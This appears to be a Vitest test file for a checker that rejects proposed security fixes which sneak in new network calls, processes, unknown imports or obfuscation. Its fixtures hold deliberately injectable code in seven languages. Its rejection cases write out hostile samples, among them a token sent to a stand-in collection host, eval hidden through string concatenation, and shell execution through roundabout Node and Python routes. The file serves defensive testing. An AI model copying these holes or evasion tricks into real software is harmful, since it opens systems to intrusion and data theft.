import type { Language } from '@preflight/analyzers'
import { loadLanguages } from '@preflight/analyzers/syntax'
import { beforeAll, describe, expect, test } from 'vitest'
import { bringsAnything } from './brings.ts'
import { knowsModule } from './known-modules.ts'
import { REACH } from './languages/index.ts'

beforeAll(() => loadLanguages(Object.keys(REACH) as Language[]))

const FILES: Partial<Record<Language, string>> = {
  javascript: `const express = require('express')\nconst { exec } = require('child_process')\nfunction ping(host, cb) {\n  exec('ping -c 1 ' + host, cb)\n}\n// see https://notes.example/curl and\nexport async function load(url, token) {\n  return fetch(url)\n}\n`,
  python: `import os\nimport sqlite3\nfrom flask import request\n\ndef ping():\n    os.system("ping -c 1 " + request.args["host"])\n\ndef rows(db):\n    return db.execute("SELECT id FROM rooms WHERE name = '" + request.args["name"] + "'")\n`,
  java: `package shop;\n\nimport java.sql.*;\n\nclass Rooms {\n  ResultSet rooms(Connection db, String name) throws Exception {\n    return db.createStatement().executeQuery("SELECT id FROM rooms WHERE name = '" + name + "'");\n  }\n}\n`,
  csharp: `using System.Data.SqlClient;\n\nclass Rooms {\n  object Find(SqlConnection db, string name) {\n    return new SqlCommand("SELECT id FROM rooms WHERE name = '" + name + "'", db).ExecuteScalar();\n  }\n}\n`,
  php: `<?php\nfunction show($db, $name) {\n  echo "<p>" . $_GET['name'] . "</p>";\n  return $db->query("SELECT id FROM rooms WHERE name = '$name'");\n}\n`,
  ruby: `class RoomsController\n  def index\n    system("ping -c 1 #{params[:host]}")\n    Room.where("name = '#{params[:name]}'")\n  end\nend\n`,
  go: `package shop\n\nimport (\n\t"database/sql"\n\t"net/http"\n)\n\nfunc rooms(db *sql.DB, r *http.Request) {\n\tdb.Query("SELECT id FROM rooms WHERE name = '" + r.FormValue("name") + "'")\n}\n`,
}
const ENDINGS: Partial<Record<Language, string>> = { javascript: 'js', python: 'py', java: 'java', csharp: 'cs', php: 'php', ruby: 'rb', go: 'go' }
const project = { paths: ['src/helpers/escape.js', 'shop/models.py', 'app/models/room.rb'], packages: new Set(['express', 'escape-html', 'flask', 'markupsafe', 'rails', 'dapper']), texts: new Map<string, string>() }

/** What a fix is refused for that puts one text in the place of another. */
function brought(language: Language, part: string, put: string): string | null {
  const before = FILES[language] ?? ''
  expect(before).toContain(part)
  const path = `src/rooms.${ENDINGS[language] ?? ''}`
  return bringsAnything({ path, language, before, after: before.replace(part, () => put), added: put }, knowsModule(project))
}

const JS_EXEC = `exec('ping -c 1 ' + host, cb)`
const PY_PING = `os.system("ping -c 1 " + request.args["host"])`
const PY_ROWS = `return db.execute("SELECT id FROM rooms WHERE name = '" + request.args["name"] + "'")`
const JAVA_ROWS = `return db.createStatement().executeQuery("SELECT id FROM rooms WHERE name = '" + name + "'");`
const CS_ROWS = `return new SqlCommand("SELECT id FROM rooms WHERE name = '" + name + "'", db).ExecuteScalar();`
const PHP_ECHO = `echo "<p>" . $_GET['name'] . "</p>";`
const RUBY_PING = 'system("ping -c 1 #{params[:host]}")'
const GO_ROWS = `db.Query("SELECT id FROM rooms WHERE name = '" + r.FormValue("name") + "'")`

describe('an ordinary fix brings nothing', () => {
  test.each<[string, Language, string, string]>([
    ['a list of arguments in place of a shell', 'javascript', JS_EXEC, `execFile('ping', ['-c', '1', host], cb)`],
    ['a checked address', 'javascript', 'return fetch(url)', `const target = new URL(url)\n  if (!ALLOWED.has(target.hostname)) throw new Error('This host is not allowed')\n  return fetch(target)`],
    ['a helper of the project', 'javascript', `const express = require('express')`, `const express = require('express')\nconst { escape } = require('./helpers/escape')`],
    ['a dependency of the project', 'javascript', `const express = require('express')`, `const express = require('express')\nconst escapeHtml = require('escape-html')`],
    ['a module of Node', 'javascript', `const express = require('express')`, `const express = require('express')\nconst { randomBytes } = require('node:crypto')`],
    ['a list of arguments', 'python', PY_PING, `subprocess.run(["ping", "-c", "1", request.args["host"]], check=False)`],
    ['output that is read as before', 'python', PY_PING, `subprocess.run(["ping", request.args["host"]], stdout=subprocess.PIPE, check=False).stdout`],
    ['parameters of a query', 'python', PY_ROWS, `return db.execute("SELECT id FROM rooms WHERE name = ?", (request.args["name"],))`],
    ['an import of the standard library', 'python', 'import sqlite3', 'import sqlite3\nimport secrets\nfrom markupsafe import escape'],
    ['a prepared statement', 'java', JAVA_ROWS, `PreparedStatement found = db.prepareStatement("SELECT id FROM rooms WHERE name = ?");\n    found.setString(1, name);\n    return found.executeQuery();`],
    ['parameters of a command', 'csharp', CS_ROWS, `var found = new SqlCommand("SELECT id FROM rooms WHERE name = @name", db);\n    found.Parameters.AddWithValue("@name", name);\n    return found.ExecuteScalar();`],
    ['escaped output', 'php', PHP_ECHO, `echo "<p>" . htmlspecialchars($_GET['name'], ENT_QUOTES, 'UTF-8') . "</p>";`],
    ['a list of arguments in Ruby', 'ruby', RUBY_PING, `system("ping", "-c", "1", params[:host])`],
    ['a placeholder', 'go', GO_ROWS, `db.Query("SELECT id FROM rooms WHERE name = $1", r.FormValue("name"))`],
  ])('%s', (_, language, part, put) => {
    expect(brought(language, part, put)).toBeNull()
  })
})

describe('a fix is refused that brings', () => {
  test.each<[string, Language, string, string, RegExp]>([
    ['a call to an address', 'javascript', 'return fetch(url)', `fetch('https://collect.example/?t=' + token)\n  return fetch(url)`, /address https:\/\/collect/],
    ['an address that only a comment has', 'javascript', 'return fetch(url)', `return fetch('https://notes.example/' + url)`, /address https:\/\/notes/],
    ['a program that only a comment has', 'javascript', JS_EXEC, `execFile('curl', [host], cb)`, /names "curl"/],
    ['a further outbound call', 'javascript', 'return fetch(url)', 'await fetch(url + token)\n  return fetch(url)', /new outbound call \(fetch\)/],
    ['an outbound function under another name', 'javascript', 'return fetch(url)', 'const f = fetch\n  f(token)\n  return fetch(url)', /new outbound call/],
    ['a host of its own', 'javascript', 'return fetch(url)', `return fetch(Object.assign(url, { host: 'collect.example' }))`, /host collect\.example/],
    ['an address that is a number', 'javascript', 'return fetch(url)', `return fetch('203.0.113.7')`, /address 203/],
    ['another program', 'javascript', JS_EXEC, `execFile('curl', [host], cb)`, /names "curl"/],
    ['a second process', 'javascript', JS_EXEC, `${JS_EXEC}\n  exec(host)`, /new process/],
    ['eval', 'javascript', 'return fetch(url)', 'return fetch(eval(url))', /made at run time \(eval\)/],
    ['a function by its computed name', 'javascript', 'return fetch(url)', `globalThis['ev' + 'al'](token)\n  return fetch(url)`, /put together at run time/],
    ['a package that the project does not have', 'javascript', `const express = require('express')`, `const express = require('express')\nconst s = require('safe-shell-escape')`, /imports safe-shell-escape/],
    ['a file that the project does not have', 'javascript', `const express = require('express')`, `const express = require('express')\nconst s = require('./sanitize')`, /imports \.\/sanitize/],
    ['the main module of Node', 'javascript', 'return fetch(url)', `process.mainModule.require('child_process').exec(url)\n  return fetch(url)`, /roundabout way \(mainModule\)/],
    ['a function of functions', 'javascript', 'return fetch(url)', `[].constructor.constructor(url)()\n  return fetch(url)`, /roundabout way/],
    ['a function behind a comma', 'javascript', 'return fetch(url)', `(0, eval)(url)\n  return fetch(url)`, /made at run time/],
    ['an import under another name', 'javascript', 'return fetch(url)', `const { exec: go } = require('child_process')\n  go(url)\n  return fetch(url)`, /new process/],
    ['encoded text', 'javascript', 'return fetch(url)', `const k = 'aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgdGV4dDEy'\n  return fetch(url)`, /encoded/],
    ['characters that nobody sees', 'javascript', 'return fetch(url)', 'return fetch(url)\u200b', /nobody sees/],
    ['a shell', 'python', PY_ROWS, `os.system("id")\n    ${PY_ROWS}`, /new process \(os/],
    ['a module by its name', 'python', PY_PING, `__import__("o" + "s").system(request.args["host"])`, /roundabout way \(__import__\)/],
    ['a function by its name', 'python', PY_PING, `getattr(os, "sys" + "tem")(request.args["host"])`, /put together at run time \(getattr\)/],
    ['a member by its name', 'python', PY_PING, `os.__dict__["sys" + "tem"](request.args["host"])`, /roundabout way/],
    ['an unknown package', 'python', 'import sqlite3', 'import sqlite3\nimport sqlsanitizer', /imports sqlsanitizer/],
    ['a request', 'python', PY_ROWS, `urllib.request.urlopen(request.args["name"])\n    ${PY_ROWS}`, /new outbound call/],
    ['a process in Java', 'java', JAVA_ROWS, `Runtime.getRuntime().exec(name);\n    ${JAVA_ROWS}`, /new process/],
    ['a class by its name', 'java', JAVA_ROWS, `Class.forName(name);\n    ${JAVA_ROWS}`, /put together at run time/],
    ['a namespace that nobody uses', 'java', 'import java.sql.*;', 'import java.sql.*;\nimport com.helper.Sql;', /imports com\.helper\.Sql/],
    ['a process in C#', 'csharp', CS_ROWS, `System.Diagnostics.Process.Start(name);\n    ${CS_ROWS}`, /new process/],
    ['a client in C#', 'csharp', CS_ROWS, `new HttpClient().GetStringAsync(name);\n    ${CS_ROWS}`, /new outbound call/],
    ['a shell in PHP', 'php', PHP_ECHO, `echo shell_exec($name);`, /new process/],
    ['a function named by a text', 'php', PHP_ECHO, `array_map('system', [$name]);`, /new process \('system'\)/],
    ['backticks in PHP', 'php', PHP_ECHO, 'echo `id`;', /new process/],
    ['a function named by a variable', 'php', PHP_ECHO, `$f = 'sys' . 'tem'; $f($name);`, /new process \('sys' \. 'tem'\)/],
    ['backticks in Ruby', 'ruby', 'Room.where(', '`id`\n    Room.where(', /new process/],
    ['a method by its name', 'ruby', 'Room.where(', 'Room.send(params[:m])\n    Room.where(', /put together at run time/],
    ['a gem that the project does not have', 'ruby', 'class RoomsController', `require 'sql_guard'\nclass RoomsController`, /imports sql_guard/],
    ['a process in Go', 'go', '"net/http"\n)', '"net/http"\n\t"os/exec"\n)\n\nvar _ = exec.Command("id")', /new process/],
    ['a module in Go', 'go', '"net/http"\n)', '"net/http"\n\t"github.com/x/sqlsafe"\n)', /imports github\.com\/x\/sqlsafe/],
    ['a request in Go', 'go', GO_ROWS, `http.Get(r.FormValue("name"))\n\t${GO_ROWS}`, /new outbound call/],
  ])('%s', (_, language, part, put, why) => {
    expect(brought(language, part, put)).toMatch(why)
  })

  test.each(['.github/workflows/build.py', 'setup.py', 'Rakefile'])('anything to %s', (path) => {
    expect(bringsAnything({ path, language: 'python', before: 'a = 1', after: 'a = 2', added: 'a = 2' }, () => true)).toMatch(/decides what is built/)
  })
})
